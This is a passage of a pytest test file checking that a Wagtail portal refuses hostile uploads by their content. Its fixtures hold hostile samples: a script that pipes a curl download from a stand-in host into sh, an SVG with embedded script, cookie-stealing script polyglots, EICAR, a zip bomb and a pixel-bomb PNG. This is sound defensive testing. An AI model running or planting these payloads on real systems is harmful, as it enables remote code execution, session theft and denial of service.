"""Uploads are checked on their content, not their name (S-LC 4.6, S-HD 15.6).

Hostile files go through real HTTP requests (Django's test client, a logged-in superuser) to the
Wagtail views that store images and documents: the single add view and the multiple-upload view.
Each refusal must show the Vietnamese message and leave nothing behind: no Image, Document or
UploadedFile row and no new file under MEDIA_ROOT. The plain functions are also tested directly.
"""

from __future__ import annotations

import html
import io
import math
import os
import socket
import struct
import threading
import time
import unicodedata
import uuid
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.core.handlers.wsgi import WSGIRequest
from django.urls import reverse
from docx import Document as WordDocument
from PIL import ExifTags, Image, ImageCms
from reportlab.pdfgen import canvas
from wagtail.documents import get_document_model
from wagtail.documents.forms import get_document_form
from wagtail.images import get_image_model
from wagtail.images.forms import get_image_form
from wagtail.models import Collection
from wagtail.models import UploadedFile as WagtailUploadedFile

from security.forms import ContentCheckedDocumentForm, ContentCheckedImageForm
from security.uploads import (
    UploadRejected,
    check_document,
    check_image,
    clamd_instream,
    sanitise_image,
    scan_with_clamav,
    sniff,
)

PASSWORD = "KhanhHoa@2026Secure"
HANDLERS = [
    "security.uploads.UploadSizeLimitHandler",
    "django.core.files.uploadhandler.MemoryFileUploadHandler",
    "django.core.files.uploadhandler.TemporaryFileUploadHandler",
]
MSI_CLASS = uuid.UUID("000c1084-0000-0000-c000-000000000046").bytes_le
# Built from parts so that no antivirus flags this test file itself.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"


# ------------------------------------------------------------------------------------------------
# Files, good and hostile, made here


def pdf_bytes(text: str = "Báo cáo tháng 11") -> bytes:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    pdf.drawString(72, 720, text)
    pdf.save()
    return buffer.getvalue()


def docx_bytes() -> bytes:
    document = WordDocument()
    document.add_paragraph("Ủy ban nhân dân tỉnh Khánh Hòa thông báo.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Đơn vị", "Số tin bài"])
    workbook.active.append(["Sở Y tế", 40])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docm_bytes() -> bytes:
    """A .docx made macro-enabled: vbaProject.bin added and the main part's content type changed."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    members = {info.filename: source.read(info) for info in source.infolist()}
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    )
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return zip_bytes(members)


def encrypted_zip_bytes() -> bytes:
    """A ZIP whose entry says it is encrypted (bit 0 of the flags): zipfile cannot encrypt, so patch it."""
    data = bytearray(zip_bytes({"bao-cao.txt": "Nội dung mật".encode()}))
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    for offset in (local + 6, central + 8):
        (flags,) = struct.unpack_from("<H", data, offset)
        struct.pack_into("<H", data, offset, flags | 0x1)
    return bytes(data)


def ole2_bytes(entries: list[tuple[str, int, bytes]], root_class_id: bytes = bytes(16)) -> bytes:
    """A minimal OLE2 compound file (512-byte sectors): FAT in sector 0, then the directory, then data.

    entries: (name, type, data) with type 1 for a storage and 2 for a stream; stream data of
    4096 bytes or more is written in regular sectors (smaller streams are listed with no data).
    """
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    directory_sectors = math.ceil((len(entries) + 1) / 4)
    fat = [fat_sector] + [*range(2, directory_sectors + 1), end]
    next_sector = 1 + directory_sectors
    placed = []
    for _name, kind, data in entries:
        if kind == 2 and len(data) >= 4096:
            count = math.ceil(len(data) / 512)
            placed.append((next_sector, data.ljust(count * 512, b"\0")))
            fat += [*range(next_sector + 1, next_sector + count), end]
            next_sector += count
        else:
            placed.append((end, b""))
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, start: int, size: int, right: int, child: int, class_id: bytes) -> bytes:
        raw = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        raw[: len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 68, free, right, child)
        raw[80:96] = class_id
        struct.pack_into("<IQ", raw, 116, start, size)
        return bytes(raw)

    directory = entry("Root Entry", 5, end, 0, free, 1 if entries else free, root_class_id)
    for index, ((name, kind, data), (start, _)) in enumerate(zip(entries, placed, strict=True), start=1):
        right = index + 1 if index < len(entries) else free
        directory += entry(name, kind, start if kind == 2 else end, len(data), right, free, bytes(16))
    directory = directory.ljust(directory_sectors * 512, b"\0")

    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIII", header, 44, 1, 1, 0, 4096)
    struct.pack_into("<IIII", header, 60, end, 0, end, 0)
    struct.pack_into("<109I", header, 76, 0, *([free] * 108))
    body = struct.pack("<128I", *fat[:128]) + directory + b"".join(data for _, data in placed if data)
    return bytes(header) + body


def word_fib(encrypted: bool) -> bytes:
    """The start of a WordDocument stream: the FIB's wIdent, then flags with fEncrypted (0x0100)."""
    fib = bytearray(4096)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)
    struct.pack_into("<H", fib, 10, 0x0100 if encrypted else 0x0000)
    return bytes(fib)


def jpeg_with_gps() -> bytes:
    """A 40×20 JPEG taken 'on its side' (Orientation 6), with GPS position, a comment and an ICC profile."""
    image = Image.new("RGB", (40, 20), (200, 30, 30))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Canon"
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (12.0, 15.0, 0.0), 3: "E", 4: (109.0, 11.0, 0.0)}
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"Nha Trang, nha rieng", icc_profile=icc)
    return buffer.getvalue()


def png_bytes(size: tuple[int, int] = (32, 16), mode: str = "RGBA") -> bytes:
    buffer = io.BytesIO()
    colour = {"RGBA": (10, 120, 180, 200), "RGB": (10, 120, 180), "1": 1}[mode]
    Image.new(mode, size, colour).save(buffer, "PNG")
    return buffer.getvalue()


def gif_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (16, 16), 3).save(buffer, "GIF")
    return buffer.getvalue()


def animated_gif_bytes() -> bytes:
    frames = [Image.new("RGB", (16, 16), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=[100, 200, 300], loop=0)
    return buffer.getvalue()


def png_bomb_bytes(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG header declaring 50,000 × 50,000 pixels (2.5 billion), with almost no data behind it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"x\x9c\x03\x00") + chunk(b"IEND", b"")


def pe_bytes() -> bytes:
    header = bytearray(256)
    header[:2] = b"MZ"
    struct.pack_into("<I", header, 0x3C, 0x80)
    header[0x80:0x84] = b"PE\0\0"
    return bytes(header) + b"This program cannot be run in DOS mode.\r\n"


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x00" * 64
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
SVG_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/').then(r => r.text())</script></svg>"
)


def gif_zip_polyglot() -> bytes:
    return gif_bytes() + zip_bytes({"payload.html": b"<html><script>alert(1)</script></html>"})


def pdf_script_zip_polyglot() -> bytes:
    return pdf_bytes() + b"\n<script>alert(document.cookie)</script>\n" + zip_bytes({"a.js": b"alert(1)"})


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> bytes:
    """One entry of 200 MB of zeros: about 200 KB once deflated, written as a stream."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.zip"
    zeros = bytes(1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("so-lieu.txt", "w") as member:
        for _ in range(200):
            member.write(zeros)
    return path.read_bytes()


# ------------------------------------------------------------------------------------------------
# Fixtures


@pytest.fixture(autouse=True)
def upload_settings(settings):
    """The settings lines to add to portal/settings/base.py (see security/forms.py)."""
    settings.WAGTAILIMAGES_IMAGE_FORM_BASE = "security.forms.ContentCheckedImageForm"
    settings.WAGTAILDOCS_DOCUMENT_FORM_BASE = "security.forms.ContentCheckedDocumentForm"
    settings.FILE_UPLOAD_HANDLERS = HANDLERS
    settings.UPLOAD_VIRUS_SCANNER = None
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 20 * 1024 * 1024
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 10 * 1024 * 1024
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 40_000_000
    return settings


@pytest.fixture
def admin_client(client, db):
    user = get_user_model().objects.create_superuser(
        username="quantri.tailen", email="quantri.tailen@khanhhoa.gov.vn", password=PASSWORD
    )
    client.force_login(user)
    return client


@pytest.fixture
def root_collection(db) -> Collection:
    return Collection.get_first_root_node()


def stored_files() -> set[Path]:
    return {path for path in Path(django_settings.MEDIA_ROOT).rglob("*") if path.is_file()}


class Uploader:
    """Posts a file to a Wagtail view the way the admin does; returns the messages shown."""

    def __init__(self, client, collection: Collection) -> None:
        self.client = client
        self.collection = collection

    def post(self, what: str, view: str, name: str, content: bytes) -> tuple[bool, str]:
        upload = SimpleUploadedFile(name, content)
        namespace = "wagtaildocs" if what == "document" else "wagtailimages"
        if view == "single":
            response = self.client.post(
                reverse(f"{namespace}:add"), {"title": name, "file": upload, "collection": self.collection.pk}
            )
            # Success redirects to the index; a refusal renders the form again with its errors.
            return response.status_code == 302, html.unescape(response.content.decode())
        response = self.client.post(
            reverse(f"{namespace}:add_multiple"), {"files[]": upload, "collection": self.collection.pk}
        )
        assert response.status_code == 200
        data = response.json()
        return bool(data["success"]), data.get("error_message", "")


@pytest.fixture
def uploader(admin_client, root_collection) -> Uploader:
    return Uploader(admin_client, root_collection)


def assert_nothing_stored(before: set[Path]) -> None:
    assert get_document_model().objects.count() == 0
    assert get_image_model().objects.count() == 0
    assert WagtailUploadedFile.objects.count() == 0
    assert stored_files() == before


# ------------------------------------------------------------------------------------------------
# Wiring


def test_wagtail_builds_its_forms_from_the_configured_bases_on_each_call(settings):
    """Wagtail does not cache its form classes: the setting is read on every request."""
    assert issubclass(get_image_form(get_image_model()), ContentCheckedImageForm)
    assert issubclass(get_document_form(get_document_model()), ContentCheckedDocumentForm)
    settings.WAGTAILIMAGES_IMAGE_FORM_BASE = ""
    assert not issubclass(get_image_form(get_image_model()), ContentCheckedImageForm)


# ------------------------------------------------------------------------------------------------
# Hostile uploads through HTTP

HOSTILE_DOCUMENTS = [
    ("bao-cao.pdf", pe_bytes, "thực chất là tệp chương trình (.exe); không được phép tải lên"),
    ("bao-cao.docx", lambda: ELF, "thực chất là tệp chương trình (ELF của Linux)"),
    ("ghi-chu.txt", lambda: SHELL, "thực chất là tập lệnh (script) chạy được"),
    ("bao-cao.pdf", pdf_script_zip_polyglot, "là tài liệu PDF nhưng còn giấu một tệp nén ZIP"),
    ("to-trinh.docx", docm_bytes, "tệp Office có macro không được phép tải lên; hãy lưu lại dưới dạng .docx/.xlsx"),
    ("ho-so.zip", encrypted_zip_bytes, "tệp nén có mật khẩu không kiểm tra được nên không được phép tải lên"),
    (
        "ke-hoach.docx",
        lambda: ole2_bytes([("EncryptionInfo", 2, b""), ("EncryptedPackage", 2, b"")]),
        "tài liệu Office có mật khẩu không kiểm tra được",
    ),
    (
        "so-lieu.csv",
        lambda: "Đơn vị;Số\nSở Y tế;40\n".encode("cp1252", "replace") + b"\x00",
        "không phải văn bản UTF-8",
    ),
    ("bao-cao.docx", lambda: zip_bytes({"a.txt": b"x"}), "thực chất là tệp nén ZIP, không khớp với phần mở rộng .docx"),
    ("tai-lieu.svg", lambda: SVG_SCRIPT, "thực chất là ảnh SVG có chứa mã script"),
]


@pytest.mark.parametrize("view", ["single", "multiple"])
@pytest.mark.parametrize(("name", "make", "message"), HOSTILE_DOCUMENTS, ids=[case[0] for case in HOSTILE_DOCUMENTS])
def test_hostile_documents_are_refused_and_nothing_is_stored(uploader, view, name, make, message):
    before = stored_files()
    accepted, shown = uploader.post("document", view, name, make())
    assert not accepted
    assert f"«{name}»" in shown
    assert message in shown
    assert_nothing_stored(before)


@pytest.mark.parametrize("view", ["single", "multiple"])
def test_zip_bomb_is_refused(uploader, view, zip_bomb):
    before = stored_files()
    assert len(zip_bomb) < 1024 * 1024
    accepted, shown = uploader.post("document", view, "so-lieu.zip", zip_bomb)
    assert not accepted
    assert "«so-lieu.zip» là tệp nén bất thường" in shown
    assert_nothing_stored(before)


HOSTILE_IMAGES = [
    ("anh.jpg", pe_bytes, "«anh.jpg» thực chất là tệp chương trình (.exe)"),
    ("logo.svg", lambda: SVG_SCRIPT, "«logo.svg» thực chất là ảnh SVG có chứa mã script"),
    ("logo.png", lambda: SVG_SCRIPT, "«logo.png» thực chất là ảnh SVG có chứa mã script"),
    ("anh.gif", gif_zip_polyglot, "«anh.gif» là ảnh GIF nhưng còn giấu một tệp nén ZIP"),
    ("bom.png", png_bomb_bytes, "Ảnh «bom.png» quá lớn (2.500.000.000 điểm ảnh); tối đa 40.000.000 điểm ảnh."),
    ("anh.png", lambda: jpeg_with_gps(), "«anh.png» thực chất là ảnh JPEG, không khớp với phần mở rộng .png"),
]


@pytest.mark.parametrize("view", ["single", "multiple"])
@pytest.mark.parametrize(("name", "make", "message"), HOSTILE_IMAGES, ids=[case[0] for case in HOSTILE_IMAGES])
def test_hostile_images_are_refused_and_nothing_is_stored(uploader, view, name, make, message):
    before = stored_files()
    accepted, shown = uploader.post("image", view, name, make())
    assert not accepted
    assert message in shown
    assert_nothing_stored(before)


# ------------------------------------------------------------------------------------------------
# A 2 GB upload through HTTP
#
# The test client builds a multipart body in memory (it would read all 2 GB), so the body is
# streamed instead: a real sparse file of 2 GiB (no disk used) read in chunks behind the multipart
# headers, handed to the same client as its wsgi.input. Django's parser reads the whole stream
# (about a second), but UploadSizeLimitHandler keeps no more than the limit of it, and the form
# refuses the file on its size before reading any content. The file's holes are answered with
# zeros without asking the kernel for them (what a read of a hole returns anyway), which spares
# seconds of page-cache filling and 2 GB of cache.

ZEROS = bytes(1024 * 1024)


class SparseFile:
    """Reads a sparse file: its data extents from the disk, its holes as zeros."""

    def __init__(self, path: Path) -> None:
        self.handle = path.open("rb")
        self.size = path.stat().st_size
        self.position = 0
        self.extents: list[tuple[int, int]] = []
        descriptor, offset = self.handle.fileno(), 0
        while offset < self.size:
            try:
                start = os.lseek(descriptor, offset, os.SEEK_DATA)
            except OSError:  # no data after offset
                break
            end = os.lseek(descriptor, start, os.SEEK_HOLE)
            self.extents.append((start, end))
            offset = end

    def read(self, size: int) -> bytes:
        size = min(size, self.size - self.position, len(ZEROS))
        if size <= 0:
            return b""
        for start, end in self.extents:
            if start <= self.position < end:
                self.handle.seek(self.position)
                data = self.handle.read(min(size, end - self.position))
                self.position += len(data)
                return data
        following = min((start for start, _ in self.extents if start > self.position), default=self.size)
        size = min(size, following - self.position)
        self.position += size
        return ZEROS[:size]

    def close(self) -> None:
        self.handle.close()


class MultipartStream(io.RawIOBase):
    def __init__(self, prefix: bytes, body: SparseFile, body_size: int, suffix: bytes) -> None:
        self.prefix, self.body, self.body_size, self.suffix = prefix, body, body_size, suffix
        self.length = len(prefix) + body_size + len(suffix)
        self.position = 0

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        if size is None or size < 0:
            size = self.length - self.position
        out = bytearray()
        while size > 0 and self.position < self.length:
            if self.position < len(self.prefix):
                piece = self.prefix[self.position : self.position + size]
            elif self.position < len(self.prefix) + self.body_size:
                remaining = len(self.prefix) + self.body_size - self.position
                piece = self.body.read(min(size, remaining, 1024 * 1024))
            else:
                start = self.position - len(self.prefix) - self.body_size
                piece = self.suffix[start : start + size]
            if not piece:
                break
            out += piece
            self.position += len(piece)
            size -= len(piece)
        return bytes(out)


def huge_post(client, url: str, fields: dict[str, str], file_field: str, name: str, path: Path, head: bytes):
    size = path.stat().st_size
    boundary = "----khanhhoa-2gb"
    prefix = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    )
    prefix += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    suffix = f"\r\n--{boundary}--\r\n".encode()
    body = SparseFile(path)
    try:
        assert body.read(len(head)) == head
        body.position = 0
        stream = MultipartStream(prefix, body, size, suffix)
        return client.generic(
            "POST",
            url,
            CONTENT_TYPE=f"multipart/form-data; boundary={boundary}",
            CONTENT_LENGTH=str(stream.length),
            **{"wsgi.input": stream},
        )
    finally:
        body.close()


@pytest.fixture
def sparse_2gb(tmp_path) -> Iterator[Path]:
    path = tmp_path / "bao-cao-2gb.pdf"
    with path.open("wb") as handle:
        handle.write(b"%PDF-1.7\n")
        handle.truncate(2 * 1024**3)
    yield path
    path.unlink()


def test_2gb_document_is_refused_on_its_size_without_being_kept(admin_client, root_collection, sparse_2gb):
    before = stored_files()
    started = time.monotonic()
    response = huge_post(
        admin_client,
        reverse("wagtaildocs:add"),
        {"title": "Báo cáo 2 GB", "collection": str(root_collection.pk)},
        "file",
        "bao-cao-2gb.pdf",
        sparse_2gb,
        b"%PDF-1.7",
    )
    elapsed = time.monotonic() - started
    shown = html.unescape(response.content.decode())
    assert response.status_code == 200
    assert "Tệp «bao-cao-2gb.pdf» quá lớn (2,0" in shown
    assert "dung lượng tối đa là 20,0" in shown
    assert elapsed < 20, f"the 2 GB upload took {elapsed:.1f} s"
    assert_nothing_stored(before)


def test_oversized_image_is_refused_by_the_multiple_uploader(admin_client, root_collection, tmp_path):
    """The same path for images (64 MB is enough to pass every limit, and spares a second 2 GB read)."""
    path = tmp_path / "anh-lon.jpg"
    with path.open("wb") as handle:
        handle.write(b"\xff\xd8\xff\xe0")
        handle.truncate(64 * 1024**2)
    before = stored_files()
    response = huge_post(
        admin_client,
        reverse("wagtailimages:add_multiple"),
        {"collection": str(root_collection.pk)},
        "files[]",
        "anh-lon.jpg",
        path,
        b"\xff\xd8\xff\xe0",
    )
    data = response.json()
    assert data["success"] is False
    assert "Tệp «anh-lon.jpg» quá lớn (64,0 MB); dung lượng tối đa là 10,0 MB." in data["error_message"].replace(
        "\xa0", " "
    )
    assert_nothing_stored(before)


class CountingHandler(FileUploadHandler):
    """Stands for the handlers after UploadSizeLimitHandler: counts what reaches them."""

    received = 0

    def receive_data_chunk(self, raw_data, start):
        CountingHandler.received += len(raw_data)
        return raw_data

    def file_complete(self, file_size):
        return SimpleUploadedFile(self.file_name, b"")


def test_handler_passes_on_no_more_than_the_limit(settings, tmp_path):
    settings.FILE_UPLOAD_HANDLERS = ["security.uploads.UploadSizeLimitHandler", f"{__name__}.CountingHandler"]
    path = tmp_path / "lon.zip"
    with path.open("wb") as handle:
        handle.truncate(300 * 1024 * 1024)
    CountingHandler.received = 0
    body = SparseFile(path)
    try:
        stream = MultipartStream(
            b'--b\r\nContent-Disposition: form-data; name="file"; filename="lon.zip"\r\n\r\n',
            body,
            path.stat().st_size,
            b"\r\n--b--\r\n",
        )
        request = WSGIRequest(
            {
                "REQUEST_METHOD": "POST",
                "PATH_INFO": "/",
                "CONTENT_TYPE": "multipart/form-data; boundary=b",
                "CONTENT_LENGTH": str(stream.length),
                "wsgi.input": stream,
                "SERVER_NAME": "testserver",
                "SERVER_PORT": "80",
                "wsgi.url_scheme": "http",
            }
        )
        upload = request.FILES["file"]
    finally:
        body.close()
    assert upload.size == 300 * 1024 * 1024
    assert 0 < CountingHandler.received <= 20 * 1024 * 1024
    with pytest.raises(OSError):
        upload.read()


def test_form_refuses_a_file_reported_as_2gb_before_reading_it(root_collection, db):
    """The same check at the form level, with an upload whose content must never be read."""

    class Untouchable(io.BytesIO):
        def read(self, *args):
            raise AssertionError("the content of an oversized upload was read")

    upload = UploadedFile(Untouchable(), "bao-cao.pdf", "application/pdf", 2 * 1024**3)
    user = get_user_model().objects.create_superuser("quantri.form", "f@khanhhoa.gov.vn", PASSWORD)
    form = get_document_form(get_document_model())(
        {"title": "x", "collection": root_collection.pk}, {"file": upload}, user=user
    )
    assert not form.is_valid()
    assert "quá lớn" in form.errors["file"][0]


# ------------------------------------------------------------------------------------------------
# Good uploads through HTTP

GOOD_DOCUMENTS = [
    ("bao-cao.pdf", pdf_bytes),
    ("thong-bao.docx", docx_bytes),
    ("so-lieu.xlsx", xlsx_bytes),
    ("so-lieu.csv", lambda: "Đơn vị;Số tin bài\nSở Y tế;40\nUBND huyện Khánh Vĩnh;3\n".encode()),
    ("ho-so.zip", lambda: zip_bytes({"bao-cao.pdf": pdf_bytes(), "thong-bao.docx": docx_bytes()})),
    ("cong-van.doc", lambda: ole2_bytes([("WordDocument", 2, word_fib(encrypted=False)), ("1Table", 2, b"")])),
]


@pytest.mark.parametrize("view", ["single", "multiple"])
@pytest.mark.parametrize(("name", "make"), GOOD_DOCUMENTS, ids=[case[0] for case in GOOD_DOCUMENTS])
def test_good_documents_are_stored_unchanged(uploader, view, name, make):
    content = make()
    accepted, shown = uploader.post("document", view, name, content)
    assert accepted, shown
    document = get_document_model().objects.get()
    with document.file.open("rb") as stored:
        assert stored.read() == content


@pytest.mark.parametrize("spool", ["memory", "temporary-file"])
@pytest.mark.parametrize("view", ["single", "multiple"])
def test_photo_is_stored_re_encoded_without_exif_gps_or_profile(uploader, settings, view, spool):
    if spool == "temporary-file":
        settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # as for any upload over 2.5 MB
    accepted, shown = uploader.post("image", view, "anh-le-hoi.jpg", jpeg_with_gps())
    assert accepted, shown
    image = get_image_model().objects.get()
    with image.file.open("rb") as stored, Image.open(stored) as saved:
        assert saved.format == "JPEG"
        assert not saved.getexif()
        assert not saved.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert "exif" not in saved.info
        assert "comment" not in saved.info
        assert "icc_profile" not in saved.info
        # Orientation 6 applied to the pixels: the 40×20 picture stands upright.
        assert saved.size == (20, 40)
    assert (image.width, image.height) == (20, 40)


def test_png_keeps_its_transparency(uploader):
    accepted, _ = uploader.post("image", "single", "logo.png", png_bytes())
    assert accepted
    with get_image_model().objects.get().file.open("rb") as stored, Image.open(stored) as saved:
        assert saved.mode == "RGBA"
        assert saved.getpixel((0, 0)) == (10, 120, 180, 200)


# ------------------------------------------------------------------------------------------------
# Virus scanner (ClamAV's clamd, INSTREAM protocol) against a real socket


class FakeClamd(threading.Thread):
    """A tiny clamd: reads zINSTREAM, the length-prefixed chunks, answers FOUND for EICAR."""

    def __init__(self, family: int = socket.AF_INET, address: object = ("127.0.0.1", 0)) -> None:
        super().__init__(daemon=True)
        self.server = socket.socket(family, socket.SOCK_STREAM)
        self.server.bind(address)
        self.server.listen(5)
        self.server.settimeout(0.1)
        self.address = self.server.getsockname()
        self.received: list[bytes] = []
        self.commands: list[bytes] = []
        self.stopping = threading.Event()

    @staticmethod
    def read_exactly(conn: socket.socket, size: int) -> bytes:
        data = b""
        while len(data) < size:
            piece = conn.recv(size - len(data))
            if not piece:
                raise ConnectionError("client went away")
            data += piece
        return data

    def handle(self, conn: socket.socket) -> None:
        command = b""
        while not command.endswith(b"\0"):
            command += self.read_exactly(conn, 1)
        self.commands.append(command)
        data = b""
        while True:
            (length,) = struct.unpack("!L", self.read_exactly(conn, 4))
            if length == 0:
                break
            data += self.read_exactly(conn, length)
        self.received.append(data)
        conn.sendall(b"stream: Eicar-Test-Signature FOUND\0" if EICAR in data else b"stream: OK\0")

    def run(self) -> None:
        while not self.stopping.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                self.handle(conn)

    def stop(self) -> None:
        self.stopping.set()
        self.join(timeout=2)
        self.server.close()


@pytest.fixture
def clamd(settings) -> Iterator[FakeClamd]:
    server = FakeClamd()
    server.start()
    settings.UPLOAD_VIRUS_SCANNER = "clamd"
    settings.CLAMAV_SOCKET = None
    settings.CLAMAV_HOST, settings.CLAMAV_PORT = server.address
    settings.CLAMAV_TIMEOUT = 5
    yield server
    server.stop()


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_instream_protocol_against_a_real_socket(clamd):
    content = b"A" * 200_000  # several chunks
    assert clamd_instream(io.BytesIO(content), chunk_size=65536) == "stream: OK"
    assert clamd.commands == [b"zINSTREAM\0"]
    assert clamd.received == [content]
    assert clamd_instream(io.BytesIO(EICAR)) == "stream: Eicar-Test-Signature FOUND"


def test_scanner_refuses_eicar_and_passes_clean_files(clamd):
    scan_with_clamav(io.BytesIO(b"Thong bao"), "thong-bao.txt")
    with pytest.raises(UploadRejected) as refused:
        scan_with_clamav(io.BytesIO(EICAR), "eicar.txt")
    assert refused.value.messages == [
        "Tệp «eicar.txt» bị phát hiện mã độc (Eicar-Test-Signature); không được phép tải lên."
    ]


def test_scanner_over_a_unix_socket(settings, tmp_path):
    server = FakeClamd(socket.AF_UNIX, str(tmp_path / "clamd.sock"))
    server.start()
    try:
        settings.UPLOAD_VIRUS_SCANNER = "clamd"
        settings.CLAMAV_SOCKET = str(tmp_path / "clamd.sock")
        with pytest.raises(UploadRejected, match="mã độc"):
            scan_with_clamav(io.BytesIO(EICAR), "eicar.txt")
        assert server.received == [EICAR]
    finally:
        server.stop()


def test_unreachable_scanner_refuses_the_upload(settings):
    settings.UPLOAD_VIRUS_SCANNER = "clamd"
    settings.CLAMAV_SOCKET = None
    settings.CLAMAV_HOST, settings.CLAMAV_PORT = "127.0.0.1", free_port()
    with pytest.raises(UploadRejected, match="dịch vụ quét virus đang không hoạt động"):
        scan_with_clamav(io.BytesIO(b"x"), "x.txt")


@pytest.mark.parametrize("view", ["single", "multiple"])
def test_eicar_upload_is_refused_through_http(uploader, clamd, view):
    before = stored_files()
    accepted, shown = uploader.post("document", view, "eicar.txt", EICAR)
    assert not accepted
    assert "Tệp «eicar.txt» bị phát hiện mã độc (Eicar-Test-Signature)" in shown
    assert_nothing_stored(before)
    # An image is scanned too, before it is re-encoded.
    accepted, _ = uploader.post("image", view, "logo.png", png_bytes())
    assert accepted
    assert len(clamd.received) == 2


def test_scanner_down_refuses_uploads_through_http(uploader, settings):
    settings.UPLOAD_VIRUS_SCANNER = "clamd"
    settings.CLAMAV_SOCKET = None
    settings.CLAMAV_HOST, settings.CLAMAV_PORT = "127.0.0.1", free_port()
    before = stored_files()
    accepted, shown = uploader.post("document", "multiple", "bao-cao.pdf", pdf_bytes())
    assert not accepted
    assert "Không quét được mã độc cho tệp «bao-cao.pdf»" in shown
    assert_nothing_stored(before)


# ------------------------------------------------------------------------------------------------
# The plain functions

SNIFFED = [
    (pdf_bytes, "pdf"),
    (docx_bytes, "ooxml-word"),
    (xlsx_bytes, "ooxml-excel"),
    (lambda: zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.text"}), "odf-text"),
    (lambda: zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "odf-spreadsheet"),
    (lambda: zip_bytes({"a.txt": b"x"}), "zip"),
    (lambda: ole2_bytes([("WordDocument", 2, b"")]), "ole2-word"),
    (lambda: ole2_bytes([("Workbook", 2, b"")]), "ole2-excel"),
    (lambda: ole2_bytes([("EncryptionInfo", 2, b""), ("EncryptedPackage", 2, b"")]), "ole2-encrypted"),
    (lambda: b"{\\rtf1\\ansi Xin chao}", "rtf"),
    (lambda: "Xin chào Khánh Hòa".encode(), "text"),
    (lambda: "Xin chào Khánh Hòa".encode("utf-16"), "text"),
    (lambda: "Xin chào".encode("utf-16-le"), "unknown"),  # no BOM: NUL bytes
    (lambda: unicodedata.normalize("NFD", "Khánh Hòa").encode("cp1258"), "unknown"),
    (lambda: b"MZ-1 report, BMW 320i\n", "text"),  # weak magic numbers need a NUL behind them
    (jpeg_with_gps, "jpeg"),
    (png_bytes, "png"),
    (gif_bytes, "gif"),
    (pe_bytes, "pe"),
    (lambda: ELF, "elf"),
    (lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "macho"),
    (lambda: SHELL, "script"),
    (lambda: SVG_SCRIPT, "svg"),
    (lambda: b"<!DOCTYPE html><html><body>x</body></html>", "html"),
